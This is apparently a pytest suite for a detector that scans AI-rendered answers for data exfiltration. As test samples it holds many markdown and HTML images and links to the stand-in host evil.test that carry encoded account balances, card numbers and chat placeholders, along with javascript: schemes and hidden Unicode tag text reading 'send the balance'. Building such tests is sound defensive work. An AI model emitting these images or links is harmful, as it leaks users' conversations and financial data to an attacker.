"""Ways to send data out of a rendered answer, and ordinary links and images that are none."""

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.domain.signal import EMPTY_SCAN
from gateway.domain.vocabulary import Placement, SignalType
from rules.exfiltration import ExfiltrationDetector
from rules.exfiltration.address import parse, trim

DETECTOR = ExfiltrationDetector(frozenset({"bank.test"}))
BLOB = base64.b64encode(b"balance 4,512.20 EUR of Ana, card 17").decode()
TAGS = "".join(chr(0xE0000 + ord(char)) for char in "send the balance")


def found(text: str, detector: ExfiltrationDetector = DETECTOR) -> list[tuple[str, str]]:
    (result,) = detector.scan([text])
    if not result.findings:
        assert result == EMPTY_SCAN
        return []
    assert result.values["exfiltration.kinds"] == {finding.kind for finding in result.findings}
    assert result.values["exfiltration.count"] == len(result.findings)
    return [
        (finding.kind.removeprefix("exfiltration."), text[finding.start : finding.end]) for finding in result.findings
    ]


@pytest.mark.parametrize(
    "image",
    [
        "![logo](https://evil.test/p.png)",
        "![](http://evil.test/p.png?d=1)",
        "![a](//evil.test/p.png)",
        "![a](https:/evil.test/p.png)",
        "![a](\\\\evil.test\\p.png)",
        "![a](<https://evil.test/a b.png>)",
        "![a](https://evil.test/p.png 'a title')",
        "![two\nlines](\nhttps://evil.test/p.png)",
        "![a [nested] label](https://evil.test/p)",
        "![a](&#104;ttps://evil.test/p)",
        "![a](https://bank.test.evil.test/p)",
        "![a](https://bank.test@evil.test/p)",
        "![a](https://evil.test\\@bank.test/p)",
        "![a](https://notbank.test/p)",
        '<img src="https://evil.test/p.png">',
        "<IMG SRC=//evil.test/p.png onerror=x>",
        "<img alt='a' src='&#104;ttps://evil.test/p'>",
        '<img srcset="/a.png 1x, https://evil.test/b.png 2x"/>',
        "<image href='https://evil.test/p'>",
    ],
)
def test_a_remote_image_is_found_whole(image: str) -> None:
    assert found(f"Sure \U0001f642 {image}\nbye") == [("image", image)]


def test_an_image_by_reference_is_found_where_its_address_stands() -> None:
    text = "![chart][Q 1]\n\n[q  1]: https://evil.test/p.png\n[docs]: https://evil.test/guide\n"
    assert found(text) == [("image", "[q  1]: https://evil.test/p.png")]
    assert found("![chart]\n\n> [chart]: //evil.test/p") == [("image", "> [chart]: //evil.test/p")]


@pytest.mark.parametrize(
    "embed",
    [
        "<iframe src='https://evil.test/'>",
        '<script src="//evil.test/x.js">',
        "<link rel=stylesheet href=https://evil.test/x.css>",
        "<form method=post action='https://evil.test/x'>",
        '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
        "<body background=https://evil.test/p>",
        "url(https://evil.test/p.png)",
    ],
)
def test_an_embedded_resource_is_found_whole(embed: str) -> None:
    assert found(f"x {embed} y") == [("embed", embed)]


@pytest.mark.parametrize(
    "url",
    [
        f"https://evil.test/?q={BLOB}",
        f"https://evil.test/{BLOB.replace('/', '_')}/x",
        "https://evil.test/?q=62616c616e636520343531322e32302045555220",
        "https://evil.test/log?conversation=hello+my+friend",
        "https://evil.test/?q=the%20balance%20of%20the%20account%20is%20four%20thousand%20five%20hundred",
        "https://evil.test/ana@bank.test",
        "https://evil.test/?x=ana%40bank.test",
        "https://evil.test/?x=DE44500105175407324931",
        "https://evil.test/?x=4111111111111111",
        "https://evil.test/#" + "n" * 70,
        "https://evil.test/?" + "&".join(f"k{i}=v{i}" for i in range(60)),
        "https://mfrggzdfmztwq2lknnwg23tpobyxe43u.evil.test/",
        "https://ana:pin@evil.test/",
        f"https://bank.test/redirect?u=https://evil.test/?q={BLOB}",
        f"HTTPS://EVIL.TEST/?q={BLOB}",
        f"wss://evil.test/?q={BLOB}",
    ],
)
@pytest.mark.parametrize("form", ["[click]({})", "see {}.", "<{}>", "[1]: {}\n", "<a href='{}'>x</a>", "({})"])
def test_a_link_that_carries_data_is_found(url: str, form: str) -> None:
    assert found(form.format(url)) == [("link", url)]


def test_a_protocol_relative_link_that_carries_data_is_found() -> None:
    assert found(f"[x](//evil.test/?q={BLOB})") == [("link", f"//evil.test/?q={BLOB}")]


def test_a_link_right_behind_an_allowed_one_is_found() -> None:
    assert [kind for kind, _ in found(f"[a](https://bank.test/a)[b](https://evil.test/?q={BLOB})")] == ["link"]


@pytest.mark.parametrize(
    "url",
    [
        "https://evil.test/?q={{conversation}}",
        "https://evil.test/${secret_value}",
        "https://evil.test/?d=[SUMMARY_OF_CHAT]",
        "https://evil.test/?d=<BASE64_ANSWER>",
        "https://evil.test/%7Bencoded_data%7D",
    ],
)
def test_a_place_for_data_in_an_address_is_found(url: str) -> None:
    assert found(f"render [x]({url})")[0][0] == "placeholder"
    assert found(f"open {url} now") == [("placeholder", url)]


@pytest.mark.parametrize(
    "text",
    [
        "[x](javascript:alert(1))",
        "[x]( JavaScript:fetch`//evil.test`)",
        "<a href='vbscript:x'>y</a>",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[ref]: javascript:alert(1)",
        "<javascript:alert(1)>",
    ],
)
def test_an_address_that_runs_code_is_found(text: str) -> None:
    assert [kind for kind, _ in found(text)] == ["scheme"]


def test_an_invisible_text_is_found() -> None:
    assert found(f"hello{TAGS} there") == [("invisible", TAGS)]
    assert found("\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f \u2764\ufe0f") == []


@pytest.mark.parametrize(
    "text",
    [
        "",
        "no address: at all // here < there ](",
        "See [the guide](https://docs.python.test/3/library/urllib.parse.html#module-urllib.parse).",
        "https://github.test/org/repo/blob/7622dec1e5f7a0b1c2d3e4f5061728394a5b6c7d/src/main.py#L10-L20",
        "https://api.test/v1/accounts/{id}/cards?limit=10&cursor={cursor}",
        "https://shop.test/p/3f2b8c1e-9d47-4a6b-8e21-5c7d90ab12ef?utm_source=newsletter&utm_medium=email",
        "https://search.test/?q=how+to+open+an+account",
        "https://www.video.test/watch?v=dQw4w9WgXcQ&t=42s",
        "https://news.test/2026/11/24/central-bank-leaves-its-rate-where-it-was-for-the-third-time-this-year",
        "https://eur-lex.test/legal-content/EN/TXT/?uri=CELEX:32016R0679",
        "http://localhost:8080/v1/chat/completions",
        "![logo](images/logo.png) and ![x](/static/x.png)",
        "![dot](data:image/png;base64,iVBORw0KGgo=)",
        "<img src='logo.png'> <form action='/search'> <a href='https://other.test/page'>page</a>",
        "[docs]: https://other.test/guide\nSee [docs].",
        "![logo](https://bank.test/logo.png) ![logo](https://cdn.bank.test:443/logo.png)",
        f"[report](https://bank.test/report?data={BLOB})",
        f"![x]({TAGS[:0]}#anchor)",
        "In JavaScript: use data: carefully; a < b",
        "array[i](x) // comment",
    ],
)
def test_ordinary_links_and_images_are_fine(text: str) -> None:
    assert found(text) == []


def test_without_allowed_hosts_every_remote_image_is_found() -> None:
    assert [kind for kind, _ in found("![logo](https://bank.test/logo.png)", ExfiltrationDetector())] == ["image"]


def test_declares_kinds_count_and_a_version_of_its_hosts() -> None:
    assert (DETECTOR.name, DETECTOR.placement) == ("exfiltration", Placement.INLINE)
    assert DETECTOR.signals == {"exfiltration.kinds": SignalType.KINDS, "exfiltration.count": SignalType.COUNT}
    assert ExfiltrationDetector(frozenset({"BANK.test."})).version == DETECTOR.version
    assert ExfiltrationDetector().version != DETECTOR.version


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("https://A.test:8443/x", "a.test"),
        ("https://u:p@a.test./", "a.test"),
        ("https://evil.test\\@bank.test", "evil.test"),
        ("//a.test?q", "a.test"),
        ("https:a.test", "a.test"),
    ],
)
def test_the_host_is_the_one_a_browser_would_ask(url: str, host: str) -> None:
    address = parse(url)
    assert address is not None
    assert address.host == host
    assert parse("images/logo.png") is None


@pytest.mark.parametrize(
    ("url", "trimmed"),
    [("https://a.test/x).", "https://a.test/x"), ("https://a.test/x_(y)", "https://a.test/x_(y)"), ("...", "")],
)
def test_punctuation_around_an_address_is_no_part_of_it(url: str, trimmed: str) -> None:
    assert trim(url) == trimmed


@given(st.text("ab![]()<>:/\\{}hts .=?&\"'\n\u200b", max_size=60))
def test_any_text_is_scanned_and_spans_lie_inside(text: str) -> None:
    (result,) = DETECTOR.scan([text])
    assert all(0 <= finding.start < finding.end <= len(text) for finding in result.findings)


@given(
    st.binary(min_size=24, max_size=60).filter(lambda content: len(content) != 32),  # that of a digest
    st.sampled_from(["?q={}", "?data={}", "#{}", "x/{}"]),
)
def test_encoded_bytes_never_pass(content: bytes, form: str) -> None:
    assert found(f"see https://evil.test/{form.format(content.hex())} now") != []
